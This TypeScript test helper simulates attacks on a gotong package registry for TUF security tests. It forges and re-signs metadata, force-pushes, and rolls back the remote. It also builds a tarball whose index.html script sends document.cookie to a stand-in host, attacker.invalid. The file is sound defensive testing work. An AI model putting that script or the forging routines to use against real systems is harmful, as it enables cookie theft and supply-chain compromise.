// Tools for acting as an attacker on a real gotong registry, for the TUF
// attack tests (test/security/tuf-*.test.ts); the registry, its users and the
// checks every test makes are in attack-scene.ts, re-exported here.
//
// An *Attacker* is a full git clone of the registry: it edits and re-signs
// metadata with whatever keys the attack assumes were stolen (through
// @tufjs/models directly, not gotong's writer, so a writer bug cannot hide
// the same bug in the client), commits, pushes, force-pushes, and resets the
// remote to old commits, as a compromised git host or mirror could.
import { execFile } from 'node:child_process';
import { createHash } from 'node:crypto';
import { promises as fs } from 'node:fs';
import { dirname, join } from 'node:path';
import { promisify } from 'node:util';
import { Metadata, MetadataKind, MetaFile, Snapshot, TargetFile, Targets, Timestamp, type Root } from '@tufjs/models';
import type { SigningKey } from '../../src/trust/keys.js';
import type { ExpiryDays } from '../../src/trust/metadata-io.js';
import { RegistryWriter } from '../../src/trust/writer.js';
import { checkOutEverything } from '../../src/registry/namespaces.js';
import type { Scene } from './attack-scene.js';
import { hostileTgz } from './hostile-tar.js';

export * from './attack-scene.js';

const run = promisify(execFile);

// ---------------------------------------------------------------- the attacker

type AnyMeta = Metadata<Root> | Metadata<Targets> | Metadata<Snapshot> | Metadata<Timestamp>;
type JSONObject = Parameters<typeof Metadata.fromJSON>[1];

export interface Republish {
  /** New versions of roles in the snapshot (`{ bandung: 4 }`); null leaves a role out. */
  roles?: Record<string, number | null>;
  snapshotVersion?: number;
  timestampVersion?: number;
  /** Expiry of the new snapshot and timestamp (default: in 7 days). */
  expires?: string;
  /** Key(s) that sign; default: none of the victim's (the attacker must say which keys it stole). */
  signers: SigningKey[];
}

export function inDays(days: number, from = new Date()): string {
  return daysFromNow(days, from).toISOString().replace(/\.\d{3}Z$/, 'Z');
}

export function daysFromNow(days: number, from = new Date()): Date {
  return new Date(from.getTime() + days * 86_400_000);
}

/** The bytes followed by spaces up to `size`: still the same JSON, only longer. */
export function padded(bytes: Buffer, size: number): Buffer {
  return Buffer.concat([bytes, Buffer.alloc(Math.max(0, size - bytes.length), 0x20)]);
}

export class Attacker {
  private constructor(readonly dir: string, readonly url: string) {}

  /** A full clone of the registry (history included), as someone with write access to the git host has. */
  static async clone(scene: Scene, name = 'attacker'): Promise<Attacker> {
    const dir = scene.world.path(name);
    await fs.rm(dir, { recursive: true, force: true });
    await run('git', ['clone', '--quiet', scene.url, dir]);
    // Every namespace's files in its folder, as in the earlier layout: what the attacker commits is that layout.
    await checkOutEverything(dir, 'HEAD');
    return new Attacker(dir, scene.url);
  }

  private git(...args: string[]) {
    return run('git', args, {
      cwd: this.dir,
      env: { ...process.env, GIT_AUTHOR_NAME: 'mallory', GIT_AUTHOR_EMAIL: 'mallory@attacker.invalid', GIT_COMMITTER_NAME: 'mallory', GIT_COMMITTER_EMAIL: 'mallory@attacker.invalid' },
      maxBuffer: 64 * 1024 * 1024,
      encoding: 'buffer',
    });
  }

  path(rel: string): string {
    return join(this.dir, rel);
  }

  read(rel: string): Promise<Buffer> {
    return fs.readFile(this.path(rel));
  }

  async write(rel: string, bytes: Buffer | string): Promise<void> {
    await fs.mkdir(dirname(this.path(rel)), { recursive: true });
    await fs.writeFile(this.path(rel), bytes);
  }

  async remove(rel: string): Promise<void> {
    await fs.rm(this.path(rel), { force: true });
  }

  async list(dir = 'metadata'): Promise<string[]> {
    return (await fs.readdir(this.path(dir))).sort();
  }

  /** A file as it was at an older commit (through the namespace's commit that it links, if any). */
  async readAt(commit: string, rel: string): Promise<Buffer> {
    const [top, namespace, ...rest] = rel.split('/');
    if (top === 'targets' && rest.length > 0) {
      const entry = (await this.git('ls-tree', commit, `targets/${namespace}`)).stdout.toString();
      if (entry.startsWith('160000 ')) return (await this.git('show', `${entry.split(/\s/)[2]}:${rest.join('/')}`)).stdout;
    }
    return (await this.git('show', `${commit}:${rel}`)).stdout;
  }

  async head(): Promise<string> {
    return (await this.git('rev-parse', 'HEAD')).stdout.toString().trim();
  }

  /** Fetches what the legitimate writers pushed since the clone, and moves to it. */
  async pull(): Promise<void> {
    await this.git('fetch', '--quiet', 'origin');
    await this.git('reset', '--quiet', '--hard', 'origin/main');
    await checkOutEverything(this.dir, 'HEAD');
  }

  async commit(message: string): Promise<string> {
    await this.git('add', '--all', '.');
    await this.git('-c', 'commit.gpgsign=false', 'commit', '--quiet', '--no-verify', '--allow-empty', '-m', message);
    return this.head();
  }

  /** Pushes HEAD to the registry's main branch, with --force when `force`. */
  async push(options: { force?: boolean } = {}): Promise<void> {
    await this.git('push', '--quiet', ...(options.force ? ['--force'] : []), 'origin', 'HEAD:refs/heads/main');
  }

  async commitAndPush(message: string): Promise<string> {
    const commit = await this.commit(message);
    await this.push();
    return commit;
  }

  /** What a compromised git host or mirror can do: serve an older commit as the newest. */
  async resetRemoteTo(commit: string): Promise<void> {
    await this.git('push', '--quiet', '--force', 'origin', `${commit}:refs/heads/main`);
    await this.git('reset', '--quiet', '--hard', commit);
    await checkOutEverything(this.dir, 'HEAD');
  }

  // ------------------------------------------------------------ metadata

  async current(): Promise<{ timestamp: Metadata<Timestamp>; snapshot: Metadata<Snapshot>; snapshotRel: string }> {
    const timestamp = await this.meta(MetadataKind.Timestamp, 'metadata/timestamp.json');
    const snapshotRel = `metadata/${timestamp.signed.snapshotMeta.version}.snapshot.json`;
    return { timestamp, snapshot: await this.meta(MetadataKind.Snapshot, snapshotRel), snapshotRel };
  }

  /** The file of a role as the current snapshot names it (`targets`, `bandung`, ...). */
  async roleRel(role: string): Promise<string> {
    const { snapshot } = await this.current();
    const entry = snapshot.signed.meta[`${role}.json`];
    if (!entry) throw new Error(`the snapshot does not list ${role}.json`);
    return `metadata/${entry.version}.${role}.json`;
  }

  async rootRel(): Promise<string> {
    const versions = (await this.list()).map((n) => /^(\d+)\.root\.json$/.exec(n)?.[1]).filter(Boolean).map(Number);
    return `metadata/${Math.max(...versions)}.root.json`;
  }

  meta(kind: MetadataKind.Root, rel: string): Promise<Metadata<Root>>;
  meta(kind: MetadataKind.Targets, rel: string): Promise<Metadata<Targets>>;
  meta(kind: MetadataKind.Snapshot, rel: string): Promise<Metadata<Snapshot>>;
  meta(kind: MetadataKind.Timestamp, rel: string): Promise<Metadata<Timestamp>>;
  async meta(kind: MetadataKind, rel: string): Promise<AnyMeta> {
    return Metadata.fromJSON(kind as MetadataKind.Root, JSON.parse((await this.read(rel)).toString('utf8')) as JSONObject);
  }

  /** Replaces the signatures of `metadata` by ones from `signers` (or adds them, with `append`). */
  sign<T extends AnyMeta>(metadata: T, signers: SigningKey[], options: { append?: boolean } = {}): T {
    if (!options.append) metadata.signatures = {};
    for (const signer of signers) metadata.sign((data) => signer.sign(data), true);
    return metadata;
  }

  static bytes(metadata: AnyMeta): Buffer {
    return Buffer.from(JSON.stringify(metadata.toJSON(), null, 1) + '\n');
  }

  async writeMeta(rel: string, metadata: AnyMeta): Promise<Buffer> {
    const bytes = Attacker.bytes(metadata);
    await this.write(rel, bytes);
    return bytes;
  }

  /**
   * Signs a new snapshot (version + 1 unless told) from the current one, with
   * `meta` changes applied, and a timestamp naming it, with the given keys:
   * what holding the online key allows.
   */
  async republish(options: Republish): Promise<{ snapshotVersion: number; timestampVersion: number }> {
    const { timestamp, snapshot } = await this.current();
    const meta: Record<string, MetaFile> = {};
    for (const [name, file] of Object.entries(snapshot.signed.meta)) meta[name] = new MetaFile({ version: file.version, length: file.length, hashes: file.hashes });
    for (const [role, version] of Object.entries(options.roles ?? {})) {
      if (version === null) delete meta[`${role}.json`];
      else meta[`${role}.json`] = new MetaFile({ version });
    }
    const snapshotVersion = options.snapshotVersion ?? snapshot.signed.version + 1;
    const timestampVersion = options.timestampVersion ?? timestamp.signed.version + 1;
    const expires = options.expires ?? inDays(7);
    const nextSnapshot = this.sign(new Metadata(new Snapshot({ version: snapshotVersion, specVersion: snapshot.signed.specVersion, expires, meta })), options.signers);
    const snapshotBytes = await this.writeMeta(`metadata/${snapshotVersion}.snapshot.json`, nextSnapshot);
    const snapshotMeta = new MetaFile({ version: snapshotVersion, length: snapshotBytes.length, hashes: { sha256: createHash('sha256').update(snapshotBytes).digest('hex') } });
    const nextTimestamp = this.sign(new Metadata(new Timestamp({ version: timestampVersion, specVersion: timestamp.signed.specVersion, expires, snapshotMeta })), options.signers);
    await this.writeMeta('metadata/timestamp.json', nextTimestamp);
    return { snapshotVersion, timestampVersion };
  }

  /**
   * Runs gotong's own writer on this working tree, as the administrators or
   * a publisher would, with its `now` and `expiry` options (e.g. metadata
   * that expires tomorrow); the caller commits and pushes.
   */
  async withWriter(options: { now?: Date; expiry?: Partial<ExpiryDays> }, build: (writer: RegistryWriter) => Promise<void> | void): Promise<void> {
    const writer = await RegistryWriter.load(this.dir, options);
    await build(writer);
    await writer.flush();
  }

  /** Signs a timestamp (version + 1 unless told) naming the snapshot file of `snapshotVersion` as it is in the tree. */
  async pointTimestampAt(snapshotVersion: number, signers: SigningKey[], options: { version?: number; expires?: string } = {}): Promise<void> {
    const { timestamp } = await this.current();
    const bytes = await this.read(`metadata/${snapshotVersion}.snapshot.json`);
    const snapshotMeta = new MetaFile({ version: snapshotVersion, length: bytes.length, hashes: { sha256: createHash('sha256').update(bytes).digest('hex') } });
    const next = new Metadata(new Timestamp({ version: options.version ?? timestamp.signed.version + 1, specVersion: timestamp.signed.specVersion, expires: options.expires ?? inDays(7), snapshotMeta }));
    await this.writeMeta('metadata/timestamp.json', this.sign(next, signers));
  }

  /**
   * Writes version N+1 of a namespace role with `targets` added (bytes stored
   * content-addressed as the registry stores them), signed by `signers`, and
   * returns its version; the snapshot is not touched (see `republish`).
   */
  async forgeRole(role: string, targets: Record<string, Buffer>, signers: SigningKey[], options: { expires?: string; version?: number; lengths?: Record<string, number> } = {}): Promise<number> {
    const current = await this.meta(MetadataKind.Targets, await this.roleRel(role));
    const json = current.signed.toJSON() as Record<string, unknown> & { targets: Record<string, unknown> };
    for (const [path, bytes] of Object.entries(targets)) {
      const sha256 = createHash('sha256').update(bytes).digest('hex');
      const sha512 = createHash('sha512').update(bytes).digest('hex');
      json.targets[path] = new TargetFile({ path, length: options.lengths?.[path] ?? bytes.length, hashes: { sha256, sha512 } }).toJSON();
      const dir = path.split('/').slice(0, -1).join('/');
      await this.write(`targets/${dir}/${sha256}.${path.split('/').pop()}`, bytes);
    }
    const version = options.version ?? current.signed.version + 1;
    const next = new Metadata(Targets.fromJSON({ ...json, version, expires: options.expires ?? current.signed.expires } as Parameters<typeof Targets.fromJSON>[0]));
    await this.writeMeta(`metadata/${version}.${role}.json`, this.sign(next, signers));
    return version;
  }
}

/** The stored file of a target in the current tree (`targets/<dir>/<sha256>.<name>`), found by its name. */
export async function storedTarget(attacker: Attacker, targetPath: string): Promise<string> {
  const dir = targetPath.split('/').slice(0, -1).join('/');
  const base = targetPath.split('/').pop()!;
  const names = (await fs.readdir(attacker.path(`targets/${dir}`))).filter((n) => n.endsWith(`.${base}`));
  if (names.length !== 1) throw new Error(`expected one stored file for ${targetPath}, found ${names.length}`);
  return `targets/${dir}/${names[0]}`;
}

// ---------------------------------------------------------------- forged content

/** A well-formed module tarball with content the victim must never get. */
export function evilTarball(name: string, version: string): Buffer {
  return hostileTgz([
    { name: 'gotong.json', data: JSON.stringify({ name, version }) + '\n' },
    { name: 'index.html', data: '<script>fetch("https://attacker.invalid/?nik="+document.cookie)</script>\n' },
  ]);
}

/**
 * The module index of `fullName` as the registry holds it, plus `version`
 * whose entry is its first version's with `fields` over it, ready to be
 * signed into a forged role.
 */
export async function indexWithEntry(attacker: Attacker, fullName: string, version: string, fields: Record<string, unknown>): Promise<Buffer> {
  const [namespace, name] = fullName.slice(1).split('/');
  const index = JSON.parse((await attacker.read(await storedTarget(attacker, `${namespace}/${name}/index.json`))).toString('utf8')) as { versions: Record<string, Record<string, unknown>> };
  index.versions[version] = { ...Object.values(index.versions)[0], ...fields };
  return Buffer.from(JSON.stringify(index, null, 2) + '\n');
}

/** The length and hashes an index entry gives `tarball`, at `target`. */
export function entryFor(target: string, tarball: Buffer): Record<string, unknown> {
  return {
    target,
    length: tarball.length,
    sha256: createHash('sha256').update(tarball).digest('hex'),
    integrity: 'sha512-' + createHash('sha512').update(tarball).digest('base64'),
  };
}

/**
 * The module index of `fullName` as the registry holds it, plus `version`
 * pointing at `tarball` (its length may be declared otherwise), ready to be
 * signed into a forged role.
 */
export async function forgedIndex(attacker: Attacker, fullName: string, version: string, tarball: Buffer, declaredLength = tarball.length): Promise<Buffer> {
  const [namespace, name] = fullName.slice(1).split('/');
  return indexWithEntry(attacker, fullName, version, { ...entryFor(`${namespace}/${name}/${name}-${version}.tgz`, tarball), length: declaredLength });
}

/** The forged role's targets for a new, evil version of `fullName`. */
export async function evilRelease(attacker: Attacker, fullName: string, version: string, declaredLength?: number): Promise<Record<string, Buffer>> {
  const [namespace, name] = fullName.slice(1).split('/');
  const tarball = evilTarball(fullName, version);
  return {
    [`${namespace}/${name}/${name}-${version}.tgz`]: tarball,
    [`${namespace}/${name}/index.json`]: await forgedIndex(attacker, fullName, version, tarball, declaredLength),
  };
}
